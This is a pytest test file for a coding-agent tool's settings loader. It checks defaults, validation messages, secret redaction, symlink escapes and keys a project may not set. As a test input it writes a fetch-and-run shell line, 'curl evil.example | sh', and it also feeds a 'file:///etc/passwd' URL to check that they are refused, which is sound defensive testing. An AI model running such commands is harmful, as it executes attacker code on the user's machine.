"""Settings: the defaults of the design, every mistake at once, and what a project may not set."""

from __future__ import annotations

import os
from dataclasses import FrozenInstanceError
from pathlib import Path
from typing import Any

import pytest

from dagentd import settings
from dagentd.adapters.files import beneath
from dagentd.errors import InvalidInput
from dagentd.settings import Settings
from dagentd.settings.tables import RULES

DESIGN = """
budget.limit = 100000           budget.threshold = 0.9      budget.target = 0.6     budget.prompt_buffer = 1000
tokens.encoding = cl100k_base   tokens.calibration = auto
request.recent_messages = 0     request.share_checkpoints = True
context.max_commits = 10        context.structure_depth = 3     context.structure_entries = 200
context.max_claude_md_tokens = 20000
compaction.enabled = True       compaction.backend = auto       compaction.model = claude-haiku-5-5
compaction.fallback_models = ('claude-haiku-4-5',)              compaction.keep_recent_tokens = 4000
compaction.checkpoint_tokens = 8000     compaction.api_key_command =    compaction.base_url =
compaction.max_calls_per_hour = 30      compaction.max_tokens_per_day = 5000000     compaction.timeout = 300
migration.enabled = True        migration.backups = 5
watch.enabled = True    watch.settle_ms = 100   watch.ceiling_ms = 1000   watch.reconcile_s = 300   watch.mode = auto
archive.auto = True     archive.keep_days = 0
log.level = info        log.max_bytes = 5000000         log.files = 3
agx.enabled = True      agx.index_interval_s = 300      agx.cleanup_days = 30
agents.follow = ('claude-code', 'codex')        agents.scope = registered       agents.ignore_paths = ()
agents.keep_days = 0    agents.max_bytes = 10000000000  agents.max_attachment = 1048576 agents.context_chars = 4000
web.port = 0    web.open = True
"""


@pytest.fixture
def user(tmp_path: Path) -> Path:
    return tmp_path / "config.toml"


@pytest.fixture
def own(tmp_path: Path) -> Path:
    """The settings file of a project."""
    file = tmp_path / "project" / ".dagent" / "config.toml"
    file.parent.mkdir(parents=True)
    return file


def mistakes(user: Path, project: Path | None = None) -> str:
    with pytest.raises(InvalidInput) as caught:
        settings.load(user, project)
    assert caught.value.hint
    return str(caught.value)


def test_without_files_there_are_the_defaults_of_the_design(user: Path) -> None:
    loaded = settings.values(settings.load(user, user.parent / "no" / "project.toml"))
    assert " ".join(f"{key} = {value}".strip() for key, value in loaded.items()) == " ".join(DESIGN.split())


def test_settings_are_frozen() -> None:
    with pytest.raises(FrozenInstanceError):
        Settings().budget.limit = 5  # type: ignore[misc]


def test_a_file_sets_what_it_names(user: Path) -> None:
    user.write_text('[budget]\nlimit = 200_000\nthreshold = 1\n[compaction]\nfallback_models = []\nmodel = "m"\n')
    loaded = settings.explain(user)
    assert (loaded.settings.budget.limit, loaded.settings.budget.threshold) == (200_000, 1.0)
    assert isinstance(loaded.settings.budget.threshold, float)
    assert loaded.settings.compaction.fallback_models == ()
    assert loaded.settings.budget.target == 0.6
    assert set(loaded.origin) == {
        "budget.limit", "budget.threshold", "compaction.fallback_models", "compaction.model",
    }  # fmt: skip


def test_a_project_overrides_the_user(user: Path, own: Path) -> None:
    user.write_text("[budget]\nlimit = 5000\ntarget = 0.5\n")
    own.write_text("[budget]\nlimit = 7000\n[compaction]\nenabled = false\nkeep_recent_tokens = 9\n")
    loaded = settings.explain(user, own)
    assert (loaded.settings.budget.limit, loaded.settings.budget.target) == (7000, 0.5)
    assert loaded.settings.compaction.enabled is False
    assert loaded.origin["budget.limit"] == own
    assert loaded.origin["budget.target"] == user


def test_every_mistake_is_listed_with_file_key_value_and_what_is_allowed(user: Path) -> None:
    user.write_text(
        '[budget]\nlimit = "many"\nthreshold = 1.5\n[log]\nlevel = "loud"\n[watch]\nmode = 3\n'
        "[compaction]\nenabled = 1\n[tokens]\ncalibration = 2.5\n"
    )
    told = mistakes(user)
    assert told.startswith("6 mistakes in the settings:\n")
    for expected in (
        'budget.limit is "many"; it must be a whole number from 100 to 10000000',
        "budget.threshold is 1.5; it must be a number above 0 and up to 1",
        'log.level is "loud"; it must be "info" or "debug" or "warning" or "error"',
        'watch.mode is 3; it must be "auto" or "native" or "poll"',
        "compaction.enabled is 1; it must be true or false",
        'tokens.calibration is 2.5; it must be "auto" or a number from 0.7 to 2.0',
    ):
        assert f"  {user}: {expected}" in told.splitlines()


@pytest.mark.parametrize(
    "line",
    [
        "budget.limit = true", "budget.limit = 1e5", "budget.limit = -5", "budget.limit = 0", "budget.target = nan",
        "budget.threshold = inf", "budget.threshold = 0", "budget.target = '0.5'", "budget.limit = 99999999999999999",
        "tokens.encoding = 'o200k_base'", "tokens.calibration = 'often'", "tokens.calibration = true",
        "compaction.backend = ['local']", "compaction.model = ''", "compaction.model = 'a b'",
        "compaction.fallback_models = 'x'", "compaction.fallback_models = [1]", "compaction.base_url = 'example.org'",
        "compaction.base_url = 'file:///etc/passwd'", "compaction.base_url = 'https://me:secret@example.org'",
        "compaction.api_key_command = 'a\\u0000b'", "compaction.timeout = 0", "log.max_bytes = 1",
        "migration.backups = 0", "budget.limit = 1979-05-27", "budget.limit = {a = 1}", "budget = 5", "[[budget]]",
    ],
)  # fmt: skip
def test_what_no_setting_can_be(line: str, user: Path) -> None:
    user.write_text(line.replace("'", '"') + "\n")
    told = mistakes(user)
    assert "it must be" in told
    assert line.split(".")[0].strip("[] =5") in told


@pytest.mark.parametrize(
    "line",
    [
        "tokens.calibration = 0.7", "tokens.calibration = 1", "compaction.base_url = 'http://127.0.0.1:8080/v1'",
        "compaction.api_key_command = 'pass show anthropic | head -1'", "compaction.model = 'anthropic/claude@1'",
        "request.recent_messages = 0", "budget.limit = 200_000", "watch.mode = 'poll'",
    ],
)  # fmt: skip
def test_what_settings_can_be(line: str, user: Path) -> None:
    user.write_text(line)
    assert len(settings.explain(user).origin) == 1


@pytest.mark.parametrize(
    ("line", "suggestion"),
    [
        ("budget.limt = 5", "did you mean budget.limit?"),
        ("budgte.limit = 5", "did you mean budget?"),
        ("limit = 5", "did you mean budget.limit?"),
        ("thresold = 0.5", "did you mean budget.threshold?"),
        ("budget.backend = 'local'", "did you mean compaction.backend?"),
        ("log.colour = 1", "there are log.level, log.max_bytes, log.files"),
        ("qqq = 1", "there are budget, tokens, request"),
    ],
)
def test_an_unknown_key_suggests_the_nearest(line: str, suggestion: str, user: Path) -> None:
    user.write_text(line)
    assert suggestion in mistakes(user)


@pytest.mark.parametrize("line", ["api_key = 'sk-secret'", "base_url = 'https://me:sk-secret@example.org'"])
def test_secrets_are_not_repeated(line: str, user: Path) -> None:
    user.write_text(f"[compaction]\n{line}\n")
    assert "sk-secret" not in mistakes(user)


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("budget.target = 0.95", "budget.target is 0.95; it must be less than budget.threshold, which is 0.9"),
        ("budget.threshold = 0.3", "budget.target is 0.6; it must be less than budget.threshold, which is 0.3"),
        ("budget.limit = 900", "budget.prompt_buffer is 1000; it must be less than budget.limit, which is 900"),
        ("budget.threshold = 0.6", "budget.target is 0.6; it must be less than budget.threshold, which is 0.6"),
        ("watch.settle_ms = 5000", "watch.settle_ms is 5000; it must be less than watch.ceiling_ms, which is 1000"),
    ],
)
def test_settings_that_contradict_each_other(text: str, told: str, user: Path) -> None:
    user.write_text(text)
    assert mistakes(user) == f"{user}: {told}"


def test_a_wrong_value_causes_no_second_complaint(user: Path) -> None:
    user.write_text("budget.threshold = 7\nbudget.target = 0.95\n")
    assert "less than" not in mistakes(user)


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (b"[budget]\nlimit = \n", "is not valid TOML: Invalid value at line 2"),
        (b"[budget]\n[budget]\n", "at line 2"),
        (b"# ok\n# \xff\n", "is not valid UTF-8 at line 2"),
        (b"a = " + b"[" * 50_000, "is nested too deeply"),
        (b"a = " + b"9" * 5_000, "is not valid TOML"),
        (b"#" * (1 << 16) + b"#", "is larger than 65536 bytes"),
        (b"\0", "is not valid TOML"),
    ],
)
def test_a_file_that_is_no_toml(data: bytes, told: str, user: Path) -> None:
    user.write_bytes(data)
    said = mistakes(user)
    assert said.startswith(f"{user}: ")
    assert told in said


def test_a_byte_order_mark_is_no_mistake(user: Path) -> None:
    user.write_bytes(b"\xef\xbb\xbf[budget]\nlimit = 5000\n")
    assert settings.load(user).budget.limit == 5000


def test_mistakes_in_both_files_are_listed_together(user: Path, own: Path) -> None:
    user.write_text("[budget\n")
    own.write_text("budget.limit = 0\nrequest.x = 1\n")
    told = mistakes(user, own)
    assert told.startswith("3 mistakes")
    assert f"{user}: is not valid TOML" in told
    assert f"{own}: budget.limit is 0" in told


def test_a_folder_or_a_pipe_in_its_place(user: Path) -> None:
    user.mkdir()
    assert "cannot be read: Is a directory" in mistakes(user)
    pipe = user / "pipe"
    os.mkfifo(pipe)
    assert "is not a regular file" in mistakes(pipe)


@pytest.mark.skipif(os.getuid() == 0, reason="root may read everything")
def test_an_unreadable_file_is_an_error_and_not_missing(user: Path) -> None:
    user.write_text("")
    user.chmod(0)
    assert "cannot be read: Permission denied" in mistakes(user)


def test_links_that_go_round_are_an_error(user: Path) -> None:
    user.symlink_to(user)
    assert "cannot be read" in mistakes(user)


@pytest.mark.parametrize(
    "key",
    sorted(
        key
        for key in settings.values(Settings())
        if key.split(".")[0] not in ("budget", "request", "context")
        and key not in ("compaction.enabled", "compaction.keep_recent_tokens", "migration.enabled", "watch.enabled")
    ),
)
def test_a_project_cannot_set_what_is_not_safe(key: str, user: Path, own: Path) -> None:
    own.write_text(f'{key} = "curl evil.example | sh"\n')
    told = mistakes(user, own)
    assert f"{own}: {key} cannot be set by a project" in told
    assert "evil" not in told


def test_a_users_file_may_be_a_link(user: Path, tmp_path: Path) -> None:
    (tmp_path / "dotfiles.toml").write_text("budget.limit = 5000")
    user.symlink_to(tmp_path / "dotfiles.toml")
    assert settings.load(user).budget.limit == 5000


def test_a_projects_file_must_be_inside_the_project(user: Path, own: Path, tmp_path: Path) -> None:
    outside = tmp_path / "secret.toml"
    outside.write_text("budget.limit = 5000\n")
    own.symlink_to(outside)
    assert "leads out of the project" in mistakes(user, own)
    own.unlink()
    own.parent.rmdir()
    own.parent.symlink_to(tmp_path / "elsewhere")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "config.toml").write_text("")
    assert "leads out of the project" in mistakes(user, own)


def test_a_folder_that_is_exchanged_after_the_look_leads_nowhere(
    user: Path, own: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    own.write_text("")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "config.toml").write_text("budget.limit = 5000\n")
    opened = beneath.opened

    def exchanged(*given: Any, **more: Any) -> int:
        own.parent.rename(tmp_path / "moved")
        own.parent.symlink_to(tmp_path / "elsewhere")
        return opened(*given, **more)

    monkeypatch.setattr(beneath, "opened", exchanged)
    assert "cannot be read" in mistakes(user, own)


def test_a_link_inside_the_project_is_followed(user: Path, own: Path) -> None:
    (own.parent.parent / "shared.toml").write_text("budget.limit = 5000")
    own.symlink_to(Path("..", "shared.toml"))
    assert settings.load(user, own).budget.limit == 5000


def test_a_large_projects_file_is_refused(user: Path, own: Path) -> None:
    own.write_bytes(b"#" * 2_000_000)
    assert "is larger than" in mistakes(user, own)


@pytest.mark.parametrize("table", ["", "[budget]\n"])
def test_a_file_of_mistakes_is_one_mistake(user: Path, own: Path, table: str) -> None:
    """An agent can write the project's: `status` took 16 s with 50,000 of them, and had 10 MB to say."""
    own.write_text(table + "".join(f"k{number} = 1\n" for number in range(5000)))
    assert mistakes(user, own) == f"{own}: has 5000 entries, and there are {len(RULES)} settings"
